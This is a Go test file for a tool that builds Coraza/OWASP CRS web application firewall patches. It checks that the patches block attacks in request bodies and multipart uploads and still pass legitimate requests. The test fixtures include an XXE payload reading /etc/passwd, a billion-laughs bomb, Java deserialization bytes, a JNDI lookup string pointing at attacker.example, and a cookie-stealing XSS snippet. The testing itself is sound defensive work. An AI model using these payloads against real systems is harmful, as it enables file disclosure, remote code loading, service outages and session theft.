package waf

import (
	"context"
	"io"
	"mime"
	"mime/multipart"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
)

// loadCRS loads the OWASP CRS v4.25.0 (the coraza-coreruleset/v4 module, which
// Coraza's own tests run) with the CRS plugins an export wrote into dir,
// as docs/waf.md tells a user to install them: Coraza's recommended
// configuration with the engine switched to blocking, crs-setup, the
// plugins' -config files, their -before files, the CRS rules, their -after
// files. evident-engine.conf is not loaded: under CRS it is not.
func loadCRS(t *testing.T, dir string) coraza.WAF {
	t.Helper()
	plugins := func(kind string) string {
		files, err := filepath.Glob(filepath.Join(dir, PluginsDir, "*-"+kind+".conf"))
		if err != nil || len(files) == 0 {
			t.Fatalf("no plugin %s files in %s (%v)", kind, dir, err)
		}
		var b strings.Builder
		for _, f := range files {
			data, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			b.Write(data)
			b.WriteString("\n")
		}
		return b.String()
	}
	registerOperators()
	w, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).
		WithDirectives("Include @coraza.conf-recommended\nSecRuleEngine On\nInclude @crs-setup.conf.example\n").
		WithDirectives(plugins("config")).
		WithDirectives(plugins("before")).
		WithDirectives("Include @owasp_crs/*.conf\n").
		WithDirectives(plugins("after")))
	if err != nil {
		t.Fatalf("CRS with the plugins of %s: %v", dir, err)
	}
	return w
}

// multipartUpload is a multipart/form-data request to target with one
// form field and one file part holding content of media type ct.
func multipartUpload(target, ct, content string) Request {
	const boundary = "evidentTestBoundary7MA4YWxk"
	body := "--" + boundary + "\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\nnightly import\r\n" +
		"--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"upload\"\r\nContent-Type: " + ct + "\r\n\r\n" +
		content + "\r\n--" + boundary + "--\r\n"
	return Request{Method: "POST", Target: target, Headers: map[string]string{"Content-Type": "multipart/form-data; boundary=" + boundary}, Body: body}
}

// TestPluginInCRS installs the CRS plugin of a validated XXE patch into
// the real CRS v4 and sends the exploit its validation said it blocks.
// Under CRS, evident-engine.conf is not loaded: Coraza's recommended rule
// 200000 parses an XML body into XML:/* (text and attribute values, no
// DTD) and leaves REQUEST_BODY empty, and a body of another media type is
// parsed by nothing, so the patch read nothing and the exploit passed
// both. The plugin's rules keep the patched route's bodies raw; an XML
// request to another route still goes to CRS's XML inspection.
func TestPluginInCRS(t *testing.T) {
	const xxe = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`
	p := Patch{Service: "gateway", Vulnerability: "TEST-1", Classification: Classification{Class: ClassXXE}}
	p.Endpoints = mergeEndpoints(nil, []string{"POST /upload"}, &p.Notes)
	build(DefaultConfig(), &p, 4_900_100, NewTraffic(0))
	set := &PatchSet{IDRange: [2]int{4_900_000, 4_999_999}, Patches: []Patch{p}}
	corpus, err := LoadCorpus(nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := Validate(context.Background(), set, nil, corpus); err != nil {
		t.Fatal(err)
	}
	if v := set.Patches[0].Validation; v.Unproven != "" || v.ExploitsBlockedExported != v.ExploitsTotal {
		t.Fatalf("the patch is not proven: %q, %d of %d exploits blocked by the exported SecLang", v.Unproven, v.ExploitsBlockedExported, v.ExploitsTotal)
	}
	dir := t.TempDir()
	if err := Export(dir, set); err != nil {
		t.Fatal(err)
	}
	w := loadCRS(t, dir)
	ids := set.Patches[0].IDs
	tests := []struct {
		name string
		req  Request
		// want: "evident" (a patch rule denies), "crs" (a CRS rule
		// denies), "" (it passes).
		want string
	}{
		{"XXE as an XML body", Request{Method: "POST", Target: "/upload", Headers: map[string]string{"Content-Type": "application/xml"}, Body: xxe}, "evident"},
		{"XXE as a SOAP body", Request{Method: "POST", Target: "/upload", Headers: map[string]string{"Content-Type": "application/soap+xml; charset=utf-8"}, Body: xxe}, "evident"},
		{"XXE as text/plain", Request{Method: "POST", Target: "/upload", Headers: map[string]string{"Content-Type": "text/plain"}, Body: xxe}, "evident"},
		{"XXE without a media type", Request{Method: "POST", Target: "/upload", Body: xxe}, "evident"},
		{"XXE in an uploaded file", multipartUpload("/upload", "application/xml", xxe), "evident"},
		{"XML body", Request{Method: "POST", Target: "/upload", Headers: map[string]string{"Content-Type": "application/xml"}, Body: `<?xml version="1.0"?><order><id>17</id><note>two boxes</note></order>`}, ""},
		{"uploaded XML file", multipartUpload("/upload", "application/xml", `<?xml version="1.0"?><order><id>17</id></order>`), ""},
		// CRS's own XML inspection stays for the routes no patch covers.
		{"XSS in XML text to another route", Request{Method: "POST", Target: "/other", Headers: map[string]string{"Content-Type": "application/xml"}, Body: `<r>&lt;script&gt;alert(document.cookie)&lt;/script&gt;</r>`}, "crs"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, by, err := replay(w, tt.req)
			if err != nil {
				t.Fatal(err)
			}
			got := ""
			switch {
			case by >= ids[0] && by <= ids[1]:
				got = "evident"
			case by != 0:
				got = "crs"
			}
			if got != tt.want {
				t.Errorf("denied by %q (rule %d), want %q", got, by, tt.want)
			}
		})
	}
}

// TestUploadsInspected sends documents as the file of a multipart upload
// to the patches that read documents. Coraza keeps a file part in a
// temporary file that no variable holds (it has no FILES_TMP_CONTENT), so
// REQUEST_BODY was empty for it and every one of these passed the patch
// that blocked the same document as a body, while validation, which never
// sent an upload, said every exploit was blocked. The same file in
// quoted-printable, which Go's mime/multipart decodes for the application,
// passed the body kept raw until 2026-12-07. Legitimate uploads to the
// same endpoint must still pass, in the standalone files and in the CRS
// plugin.
func TestUploadsInspected(t *testing.T) {
	const billionLaughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`
	tests := []struct {
		class   Class
		ct      string
		exploit string
		good    string
	}{
		{ClassXXE, "application/xml", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, `<?xml version="1.0"?><order><id>17</id></order>`},
		// A Java serialized object as sent, binary (AC ED 00 05), as a
		// ysoserial payload file is uploaded.
		{ClassDeserialization, "application/octet-stream", "\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04size", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"},
		{ClassDeserialization, "text/plain", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ==", "order 17: two boxes\n"},
		{ClassExpressionInjection, "text/plain", "user=${jndi:ldap://attacker.example/a}\n", "user=alice\n"},
		{ClassParserBomb, "application/xml", billionLaughs, `<?xml version="1.0"?><order><id>17</id></order>`},
	}
	corpus, err := LoadCorpus(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range tests {
		t.Run(string(tt.class)+" "+tt.ct, func(t *testing.T) {
			p := Patch{Service: "gateway", Vulnerability: "TEST-1", Classification: Classification{Class: tt.class}}
			p.Endpoints = mergeEndpoints(nil, []string{"POST /upload"}, &p.Notes)
			build(DefaultConfig(), &p, 4_900_100, NewTraffic(0))
			set := &PatchSet{IDRange: [2]int{4_900_000, 4_999_999}, Patches: []Patch{p}}
			if err := Validate(context.Background(), set, nil, corpus); err != nil {
				t.Fatal(err)
			}
			p = set.Patches[0]
			if v := p.Validation; v.Unproven != "" || !slices.Contains(v.Mutations, "as an uploaded file") || !slices.Contains(v.Mutations, "as an uploaded file in quoted-printable") {
				t.Errorf("validation: unproven %q, mutations %v, want proven with uploads among them", v.Unproven, v.Mutations)
			}
			standalone, err := newWAF(engineSettings(), bodyProcessorRules(4_900_000), p.SecLang())
			if err != nil {
				t.Fatal(err)
			}
			plugin, err := compilePlugin(&p, 4_900_000)
			if err != nil {
				t.Fatal(err)
			}
			// The file part in quoted-printable, which Go's mime/multipart
			// (net/http's ParseMultipartForm) decodes for the application.
			qp, _ := asUploadEncoded(Request{Method: "POST", Target: "/upload", Headers: map[string]string{"Content-Type": tt.ct}, Body: tt.exploit}, "quoted-printable")
			if got := uploadedFile(t, qp); got != tt.exploit {
				t.Fatalf("Go's mime/multipart reads the quoted-printable file as %q, want the exploit %q", got, tt.exploit)
			}
			for name, w := range map[string]coraza.WAF{"standalone": standalone, "CRS plugin": plugin} {
				if _, by, err := replay(w, multipartUpload("/upload", tt.ct, tt.exploit)); err != nil || by == 0 {
					t.Errorf("%s: the uploaded exploit passed (%v)", name, err)
				}
				if _, by, err := replay(w, qp); err != nil || by == 0 {
					t.Errorf("%s: the uploaded exploit in quoted-printable passed (%v)", name, err)
				}
				if _, by, err := replay(w, multipartUpload("/upload", tt.ct, tt.good)); err != nil || by != 0 {
					t.Errorf("%s: a legitimate upload was denied by rule %d (%v)", name, by, err)
				}
			}
		})
	}
}

// uploadedFile returns the file part of the upload r as an application
// reading it with Go's mime/multipart sees it.
func uploadedFile(t *testing.T, r Request) string {
	t.Helper()
	_, params, err := mime.ParseMediaType(r.Headers["Content-Type"])
	if err != nil {
		t.Fatal(err)
	}
	mr := multipart.NewReader(strings.NewReader(r.Body), params["boundary"])
	for {
		part, err := mr.NextPart()
		if err != nil {
			t.Fatalf("no file part in the upload: %v", err)
		}
		if part.FileName() != "" {
			data, err := io.ReadAll(part)
			if err != nil {
				t.Fatal(err)
			}
			return string(data)
		}
	}
}

// TestMultipartHasNoRawBody pins the fact that makes a document patch
// keep its endpoints' multipart bodies raw, at a cost to CRS (docs/waf.md,
// "Bodies kept raw"): Coraza's MULTIPART processor fills ARGS_POST and
// FILES but never REQUEST_BODY, not even with
// ctl:forceRequestBodyVariable=On (ModSecurity's way to have both), and
// keeps a file's content in a temporary file that no variable holds. So
// one transaction cannot give CRS the form fields and the patch the
// uploaded file. Should a Coraza release fill REQUEST_BODY here, this
// fails, and the patches can keep multipart bodies parsed.
func TestMultipartHasNoRawBody(t *testing.T) {
	const body = "--b7MA4YWxk\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\nnightly import\r\n" +
		"--b7MA4YWxk\r\nContent-Disposition: form-data; name=\"file\"; filename=\"o.xml\"\r\nContent-Type: application/xml\r\n\r\n<order>17</order>\r\n--b7MA4YWxk--\r\n"
	tests := []struct {
		name, ctl string
		// want is the rule that denies: 1 reads REQUEST_BODY, 2 the
		// field in ARGS_POST.
		want int
	}{
		{"MULTIPART", "requestBodyProcessor=MULTIPART", 2},
		{"MULTIPART with forceRequestBodyVariable", "requestBodyProcessor=MULTIPART,ctl:forceRequestBodyVariable=On", 2},
		{"RAW, as a document patch keeps it", "requestBodyProcessor=RAW", 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives("SecRuleEngine On\nSecRequestBodyAccess On\n" +
				"SecAction \"id:3,phase:1,pass,nolog,ctl:" + tt.ctl + "\"\n" +
				"SecRule REQUEST_BODY \"@rx <order>\" \"id:1,phase:2,deny,status:403\"\n" +
				"SecRule ARGS_POST:comment \"@streq nightly import\" \"id:2,phase:2,deny,status:403\"\n"))
			if err != nil {
				t.Fatal(err)
			}
			_, by, err := replay(w, Request{Method: "POST", Target: "/upload", Headers: map[string]string{"Content-Type": "multipart/form-data; boundary=b7MA4YWxk"}, Body: body})
			if err != nil || by != tt.want {
				t.Errorf("denied by rule %d (%v), want %d", by, err, tt.want)
			}
		})
	}
}

// TestUploadMissedIsUnproven: a patch that blocks a document sent as the
// body but not as an uploaded file is not proven.
func TestUploadMissedIsUnproven(t *testing.T) {
	p := Patch{Service: "gateway", Vulnerability: "TEST-1", Classification: Classification{Class: ClassXXE}}
	p.Endpoints = mergeEndpoints(nil, []string{"POST /upload"}, &p.Notes)
	build(DefaultConfig(), &p, 4_900_100, NewTraffic(0))
	// The patch as it was before its endpoints' bodies were kept raw.
	p.Rules = slices.DeleteFunc(p.Rules, func(r Rule) bool { return r.ctl != "" })
	set := &PatchSet{IDRange: [2]int{4_900_000, 4_999_999}, Patches: []Patch{p}}
	corpus, err := LoadCorpus(nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := Validate(context.Background(), set, nil, corpus); err != nil {
		t.Fatal(err)
	}
	v := set.Patches[0].Validation
	if !strings.Contains(v.Unproven, "as an uploaded file") || !slices.ContainsFunc(v.MutationsMissed, func(m string) bool { return strings.Contains(m, "as an uploaded file") }) {
		t.Errorf("unproven %q, missed %v: want the uploads named", v.Unproven, v.MutationsMissed)
	}
}
